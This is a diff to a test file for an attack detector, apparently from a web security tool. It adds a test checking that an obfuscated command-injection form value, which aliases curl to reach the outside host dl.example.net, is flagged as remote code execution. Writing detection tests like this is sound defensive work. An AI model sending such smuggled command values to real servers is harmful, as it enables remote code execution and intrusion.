@@ -15,7 +15,7 @@ import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { AttackDetector } from '../../../node/analysis/attacks';
 import type { AttackClass } from '../../../node/records/types';
-import { classesAt, exampleTable, RELAXED } from './helpers';
+import { classesAt, exampleTable, RELAXED, tx, written } from './helpers';
 
 const detector = new AttackDetector(RELAXED);
 
@@ -153,3 +153,10 @@ for (const v of SCRIPTS_FOUND) {
     for (const where of ['json', 'form', 'q'] as const) assert.ok(classesAt(detector, where, v).includes('rce'), where);
   });
 }
+
+test('an alias defined and run across the pairs of a form body read whole', () => {
+  const found = detector.detect(tx(written('form', 'cmd=alias k=c${Z}url&k dl.example.net')))?.hits.map((h) => h.class) ?? [];
+  assert.ok(found.includes('rce'), found.join());
+  const quiet = detector.detect(tx(written('form', 'nickname=alias bob=robert&note=hi there')))?.hits.map((h) => h.class) ?? [];
+  assert.deepEqual(quiet, []);
+});
